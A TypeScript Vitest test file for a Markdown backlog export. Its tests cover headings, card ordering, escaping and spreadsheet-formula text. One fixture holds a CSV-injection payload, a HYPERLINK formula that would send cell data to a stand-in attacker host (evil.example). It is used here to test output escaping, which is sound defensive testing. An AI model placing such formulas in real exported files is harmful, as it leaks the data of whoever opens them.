import { describe, expect, it } from 'vitest'
import { toBacklogMarkdown } from './markdown'
import { backlogOf, cardAt, slice, step } from './testBoard'

const board = [
  step('browse', 0, 'Browse'),
  step('pay', 300, 'Pay'),
  slice('later', 500, 'Later'),
  slice('mvp', 0, 'MVP'),
  slice('someday', 1000, 'Someday'),
  cardAt('search', 100, 100, {
    title: 'Search',
    iWant: 'to search',
    acceptance: ['Finds by name', '- not a nested list'],
    estimate: 3,
    moscow: 'should',
    labels: ['catalog'],
  }),
  cardAt('checkout', 400, 100, { title: 'Checkout', moscow: 'must', estimate: 1 }),
  cardAt('chat', 100, 600, { title: 'Chat' }),
  cardAt('loose', 3000, 3000, { title: 'Loose' }),
]

describe('toBacklogMarkdown', () => {
  const backlog = backlogOf(board, { 'shape:search|u1': 2, 'shape:chat|u1': 1 })
  const markdown = toBacklogMarkdown(backlog, { title: 'Shop' })
  const lines = markdown.split('\n')

  it('writes a heading per release in slice order, no release last', () => {
    expect(lines[0]).toBe('# Shop')
    expect(lines.filter((line) => line.startsWith('## '))).toEqual([
      '## MVP',
      '## Later',
      '## Someday',
      '## No release',
    ])
  })

  it('lists the cards in rank order, each item starting with its title', () => {
    const items = lines.filter((line) => line.startsWith('- '))
    expect(items).toHaveLength(backlog.items.length)
    items.forEach((line, i) => {
      expect(line.startsWith(`- **${backlog.items[i]?.title}**`)).toBe(true)
    })
    expect(markdown).toBe(
      [
        '# Shop',
        '',
        '## MVP',
        '',
        '- **Checkout** (1 pt · Must)',
        '- **Search** — I want to search (3 pts · Should · 2 votes · labels: catalog)',
        '  - Finds by name',
        '  - \\- not a nested list',
        '',
        '## Later',
        '',
        '- **Chat** (1 vote)',
        '',
        '## Someday',
        '',
        '_No cards._',
        '',
        '## No release',
        '',
        '- **Loose**',
        '',
      ].join('\n'),
    )
  })

  it('escapes a title so that it cannot break the list', () => {
    const tricky = backlogOf([
      cardAt('x', 0, 0, { title: '**Bold** [link](u)\n- fake item\n# fake heading' }),
    ])
    const output = toBacklogMarkdown(tricky, { title: 'Board #1' })
    expect(output).toBe(
      '# Board \\#1\n\n## No release\n\n- **\\*\\*Bold\\*\\* \\[link\\](u) - fake item \\# fake heading**\n',
    )
  })

  // The Jira CSV prefixes formula starts with `'` (spreadsheets run them); Markdown is not opened by a
  // spreadsheet, so the same text stays as typed there, with only Markdown's own syntax escaped.
  it('keeps text that would start a spreadsheet formula as typed, escaped as any other text', () => {
    const formulas = backlogOf([
      step('s', 0, '=cmd'),
      slice('r', 0, '@SUM(1+1)'),
      cardAt('link', 100, 100, {
        title: '=HYPERLINK("http://evil.example/?"&A1, "Click")',
        labels: ['-1+2', '@me'],
        acceptance: ['+1+1', '=2'],
      }),
      cardAt('plus', 100, 200, { title: '+1+1\n- item', asA: '=x' }),
      cardAt('minus', 100, 300, { title: '-2' }),
      cardAt('at', 100, 350, { title: '@SUM(A1)' }),
    ])
    expect(toBacklogMarkdown(formulas, { title: '=Board' })).toBe(
      [
        '# =Board',
        '',
        '## @SUM(1+1)',
        '',
        '- **=HYPERLINK("http://evil.example/?"\\&A1, "Click")** (labels: \\-1+2, @me)',
        '  - \\+1+1',
        '  - =2',
        '- **\\+1+1 - item** — As a =x',
        '- **\\-2**',
        '- **@SUM(A1)**',
        '',
      ].join('\n'),
    )
  })

  it('writes an empty board', () => {
    expect(toBacklogMarkdown(backlogOf([]), { title: 'Empty' })).toBe('# Empty\n\n_No cards._\n')
  })
})
